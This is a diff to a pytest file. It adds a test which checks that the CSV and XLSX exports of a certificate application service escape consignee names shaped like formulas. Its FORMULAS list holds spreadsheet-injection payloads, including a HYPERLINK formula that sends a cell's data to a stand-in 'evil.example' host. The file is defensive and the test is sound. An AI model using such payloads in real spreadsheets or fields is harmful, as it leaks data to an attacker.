@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -132,3 +133,22 @@ def test_xlsx_export(client, key_headers, three_issued):
     assert values[0][0] == "证书编号 Certificate No." and len(values) == 4
     assert {v[0] for v in values[1:]} == {c.certificate_no for c in three_issued}
     assert "东京贸易株式会社" in {v[7] for v in values[1:]}
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)")
+
+
+def test_exports_write_formula_like_text_as_text(client, key_headers, apply_for):
+    """A consignee typed as a formula reaches the officer's spreadsheet as text, never as a formula."""
+    for name in FORMULAS:
+        apply_for(form=phyto_form(consignee={"name_en": name}))
+    exported = get(client, "applications.csv", key_headers).data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(exported)))
+    assert sorted(r[5] for r in rows[1:]) == sorted("'" + name for name in FORMULAS)
+    workbook = load_workbook(io.BytesIO(get(client, "applications.xlsx", key_headers).data))
+    cells = [row[5] for row in workbook.active.iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+    with zipfile.ZipFile(io.BytesIO(get(client, "applications.xlsx", key_headers).data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
